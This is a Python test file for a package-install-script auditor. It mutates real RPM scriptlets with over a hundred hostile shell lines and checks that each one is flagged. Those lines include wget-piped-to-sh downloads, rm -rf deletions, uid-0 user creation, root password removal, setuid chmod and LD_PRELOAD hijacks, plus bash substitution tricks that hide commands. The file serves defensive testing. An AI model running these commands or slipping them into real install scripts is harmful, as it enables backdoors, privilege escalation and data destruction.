"""One consequential line in a real scriptlet never hides from the audit."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from dataclasses import dataclass, replace

from layer.audit.judge import Coverage, audit_package, coverage
from layer.audit.verdict import Verdict
from layer.model import PackageHeader, Scriptlet
from layer.rpmfile.header import read_header
from testdata.distro.build import ensure_demo
from tests.test_audit import TRIGGERS

MUTANTS = 1000

# What must not pass unseen. None of these touches anything that layer can declare.
EFFECTS = (
    "rm -rf /usr/lib/mutant",
    "rm -f /etc/mutant.conf",
    "rm -rf /var/cache/../lib/mutant",
    "echo mutant > /etc/mutant",
    "echo mutant >> /usr/lib/mutant",
    "printf mutant > $MUTANT",
    "cat /etc/passwd >/etc/mutant",
    ": > /etc/mutant",
    "> /etc/mutant",
    "true &> /etc/mutant",
    "true 2>/etc/mutant",
    "true >| /etc/mutant",
    "true <> /etc/mutant",
    "curl -o /usr/bin/mutant http://mutant",
    "wget -q http://mutant -O - | sh",
    "chmod 4755 /usr/bin/mutant",
    "chown mutant /usr/bin/mutant",
    "chmod -R 777 /etc",
    "cp /etc/passwd /usr/lib/mutant",
    "mv /usr/bin/mutant /usr/bin/other",
    "install -m 4755 /tmp/mutant /usr/bin/mutant",
    "mkdir -p /usr/lib/mutant",
    "ln -s mutant $MUTANT",
    "ln -sf /usr/bin/mutant /usr/local/bin/mutant",
    "touch /etc/mutant",
    "tee /etc/mutant </dev/null",
    "dd if=/dev/zero of=/etc/mutant",
    "sed -i s/a/b/ /etc/mutant",
    "sed 's/a/b/w /etc/mutant' /etc/passwd",
    "sed -n '1e touch /etc/mutant' /etc/passwd",
    "awk 'BEGIN { system(\"touch /etc/mutant\") }'",
    "awk '{ print > \"/etc/mutant\" }' /etc/passwd",
    "perl -e 'unlink \"/etc/mutant\"'",
    "python3 -c 'import mutant'",
    "find /usr/lib/mutant -delete",
    "find /usr -name mutant -exec rm {} +",
    "find /usr -fprint /etc/mutant",
    "echo /etc/mutant | xargs rm",
    "sort -o /etc/mutant /etc/passwd",
    "uniq /etc/passwd /etc/mutant",
    "date -s 2020-01-01 # mutant",
    "hostname mutant",
    "env MUTANT=1 rm /etc/mutant",
    "env LD_PRELOAD=/tmp/mutant.so true",
    "LD_PRELOAD=/tmp/mutant.so ls",
    "PATH=/tmp/mutant:$PATH",
    "export PATH=/tmp/mutant",
    "command rm /etc/mutant",
    "exec rm /etc/mutant",
    "nohup rm /etc/mutant",
    "nice -n 5 rm /etc/mutant",
    "timeout 5 rm /etc/mutant",
    "setsid rm /etc/mutant",
    "su -c 'rm /etc/mutant' root",
    "chroot / rm /etc/mutant",
    "useradd mutant",
    "useradd -r -u 0 -o mutant",
    "useradd -r -u 0 mutant",
    "useradd -r -g 0 -u 00 mutant",
    "adduser --system --uid 0 mutant",
    "chkstat --warn --set /usr/bin/mutant",
    "userdel root # mutant",
    "usermod -s /bin/bash mutant",
    "echo root:mutant | chpasswd",
    "passwd -d root # mutant",
    "setcap cap_sys_admin+ep /usr/bin/mutant",
    "update-alternatives --set mutant /usr/bin/mutant",
    "update-alternatives --install $MUTANT mutant /usr/bin/mutant 50",
    "systemctl enable mutant.service",
    "systemctl mask mutant.service",
    "systemctl preset mutant.service",
    "systemctl preset-all # mutant",
    "systemctl --root=/mutant preset a.service",
    "ldconfig /tmp/mutant",
    "dpkg-divert --add --rename /usr/bin/mutant",
    "rpm --eval '%(touch /etc/mutant)'",
    "rpm -e mutant",
    "mount -t tmpfs mutant /usr",
    "crontab /tmp/mutant",
    "git clone http://mutant /usr/lib/mutant",
    "/usr/lib/mutant/setup",
    "./mutant",
    ". /usr/lib/mutant",
    "source /usr/lib/mutant",
    "$MUTANT",
    '"$MUTANT" --quiet',
    "r\\m -rf /usr/lib/mutant",
    "'rm' -rf /usr/lib/mutant",
    "r''m -rf /usr/lib/mutant",
    "echo 'u mutant 0' | systemd-sysusers -",
    "systemd-sysusers - <<MUTANT\nu mutant 0\nMUTANT",
    "systemd-tmpfiles --create - <<MUTANT\nf /etc/mutant\nMUTANT",
    "sh <<MUTANT\nrm /etc/mutant\nMUTANT",
    "cat <<MUTANT | sh\nrm /etc/mutant\nMUTANT",
    "cat <<MUTANT >/etc/mutant\nx\nMUTANT",
    "cat <<MUTANT || true\n$(rm /etc/mutant)\nMUTANT",
    "bash -s < /usr/lib/mutant",
    "sh /usr/lib/mutant",
    "unset 'a[$(rm /etc/mutant)]'",
    "[ -v 'a[$(rm /etc/mutant)]' ]",
    "[[ 'a[$(rm /etc/mutant)]' -eq 0 ]]",
    "printf -v 'a[$(rm /etc/mutant)]' x",
    "read 'a[$(rm /etc/mutant)]' </dev/null",
    "x='a[$(rm /etc/mutant)]'; echo $((x))",
    "echo $((a[$(rm /etc/mutant)]))",
    "(( a[$(rm /etc/mutant)] ))",
    "x='a[$(rm /etc/mutant)]'; (( x ))",
    "let 'a[$(rm /etc/mutant)]=1'",
    "declare -i x='a[$(rm /etc/mutant)]'",
    "a[$(rm /etc/mutant)]=1",
    "echo ${a[$(rm /etc/mutant)]}",
    "x='a[$(rm /etc/mutant)]'; echo ${!x}",
    "x='$(rm /etc/mutant)'; echo ${x@P}",
    "echo ${x:$(rm /etc/mutant):1}",
    "echo ${x%$(rm /etc/mutant)}",
    "case $(rm /etc/mutant) in esac",
    "case x in $(rm /etc/mutant)) ;; esac",
    "for x in $(rm /etc/mutant); do :; done",
    "for x in a $(rm /etc/mutant) b; do echo $x; done",
    "while rm /etc/mutant; do break; done",
    "until rm /etc/mutant; do break; done",
    "select x in mutant; do rm $x; done </dev/null",
    "coproc rm /etc/mutant",
    "time rm /etc/mutant",
    "echo `rm /etc/mutant`",
    'echo "`rm /etc/mutant`"',
    'echo "a $(echo $(rm /etc/mutant))"',
    "x=$(rm /etc/mutant)",
    "x=a y=$(rm /etc/mutant)",
    "local x=$(rm /etc/mutant)",
    "export x=$(rm /etc/mutant)",
    "cat <(rm /etc/mutant)",
    "echo mutant > >(tee /etc/mutant)",
    ': "${x:=$(rm /etc/mutant)}"',
    ": ${PATH:=/tmp/mutant}",
    "echo <<<$(rm /etc/mutant)",
    "trap 'rm /etc/mutant' EXIT",
    "alias ls='rm /etc/mutant'",
    "eval 'rm /etc/mutant'",
    "eval \"$(echo rm) /etc/mutant\"",
    "sh -c 'rm /etc/mutant'",
    "bash -ec 'cd / && rm /etc/mutant'",
    "sh -c 'sh -c \"rm /etc/mutant\"'",
    "sh -c \"$MUTANT\"",
    "sh -c 'eval \"$1\"' sh 'rm /etc/mutant'",
    "set -- rm /etc/mutant; \"$@\"",
    "x=rm; $x /etc/mutant",
    "IFS=/; x=a/etc; rm $x/mutant",
    "ls() { rm /etc/mutant; }; ls",
    "mutant() { \"$@\"; }; mutant rm /etc/mutant",
    "mutant() { rm $1; }; mutant /etc/mutant",
    "{ mutant() { rm /etc/mutant; }; }; mutant",
    "mutant() ( rm /etc/mutant ); mutant",
    "function mutant { rm /etc/mutant; }; mutant",
    "mutant() { :; } >/etc/mutant; mutant",
)  # fmt: skip

# Where such a line may stand and still run.
PLACES = (
    "{}",
    "{}",
    "true && {}",
    "false || {}",
    "! {}",
    "if true; then {}\nfi",
    "if false; then :; else {}\nfi",
    'if [ -n "$MUTANT" ]; then {}\nfi',
    "if [ -e /etc/mutant ]; then {}\nfi",
    "if getent passwd mutant >/dev/null; then {}\nfi",
    "( {}\n)",
    "{{ {}\n}}",
    "{{ {}\n}} >/dev/null 2>&1",
    "for mutated in 1 2; do {}\ndone",
    "for mutated in $MUTANT; do {}\ndone",
    'while [ -n "$MUTANT" ]; do {}\ndone',
    "case x in y) ;; x) {}\n;; esac",
    "case x in [xyz]) {}\n;; esac",
    "case $MUTANT in y) ;; *) {}\n;; esac",
    "mutated() {{ {}\n}}\nmutated",
    "mutated() {{ return; }}; mutated; {}",
    "echo x | {{ {}\n}}",
    "x=$( {}\n)",
    "echo \"$( {}\n)\"",
    "true & {}",
    "command true; {}",
    "for mutated in 1 2; do [ $mutated = 2 ] || continue; {}\ndone",
)  # fmt: skip


@dataclass(frozen=True)
class Body:
    """A real scriptlet, its package, and after which of its lines another one would run."""

    package: PackageHeader
    scriptlet: Scriptlet
    covers: tuple[Coverage, ...]
    places: tuple[int, ...]


def bodies() -> Iterator[Body]:
    """The installing shell scripts of the demonstration's packages."""
    for path in sorted(ensure_demo().path.glob("*.rpm")):
        package = read_header(path)
        covers = coverage(package, TRIGGERS)
        for scriptlet in package.scriptlets:
            if scriptlet.slot in {"pre", "post"} and scriptlet.interpreter.startswith("/bin/"):
                found = tuple(places(scriptlet.body))
                if found:
                    yield Body(package, scriptlet, covers, found)


def places(body: str) -> Iterator[int]:
    """Behind the arguments that dpkg gives, and in the branches that they lead to."""
    lines = body.split("\n")
    depth = [bool(re.match(r"\S*\s*\(\)", line)) for line in lines]
    for number, line in enumerate(lines):
        is_branch = re.fullmatch(r'if \[ "\$1" = "?configure"? \]; then|\s*configure\)', line)
        if line.startswith("set -- ") or (is_branch and not any(depth)):
            yield number + 1


def mutants() -> Iterator[tuple[Body, int, str]]:
    """A body, the line behind which it grows, and what it grows; the same ones every time."""
    chance = random.Random(4)
    found = tuple(bodies())
    for number in range(MUTANTS):
        body = found[number % len(found)]
        effect = EFFECTS[number % len(EFFECTS)]
        place = chance.choice(PLACES)
        if effect.startswith("local "):
            place = "mutated() {{ {}\n}}\nmutated"
        yield body, chance.choice(body.places), place.format(effect)


def is_seen(body: Body, place: int, grown: str) -> bool:
    """Whether the user is asked about one of the lines that were added."""
    lines = body.scriptlet.body.split("\n")
    lines[place:place] = grown.split("\n")
    scriptlet = replace(body.scriptlet, body="\n".join(lines))
    audit = audit_package(replace(body.package, scriptlets=(scriptlet,)), body.covers)
    added = range(place + 1, place + 1 + grown.count("\n") + 1)
    return any(item.line in added for item in audit.unknown)


def test_no_consequential_line_hides() -> None:
    hidden = [
        f"{body.package.nevra.name} %{body.scriptlet.slot} after line {place}: {grown}"
        for body, place, grown in mutants()
        if not is_seen(body, place, grown)
    ]
    assert hidden == []


def test_the_lines_would_be_seen_for_what_they_are_and_not_for_their_scripts() -> None:
    grown = ("true", "echo hello >/dev/null", "[ -n x ] && true")
    seen = [body for body in bodies() for line in grown if is_seen(body, body.places[0], line)]
    assert seen == []


def test_every_effect_alone_is_unknown() -> None:
    (body, *_) = bodies()
    hidden = []
    for effect in EFFECTS:
        text = f"mutated() {{ {effect}\n}}\nmutated" if effect.startswith("local") else effect
        package = replace(body.package, scriptlets=(Scriptlet("post", "/bin/sh", text),))
        found = {item.verdict for item in audit_package(package, body.covers).judged}
        if Verdict.UNKNOWN not in found:
            hidden.append(effect)
    assert hidden == []
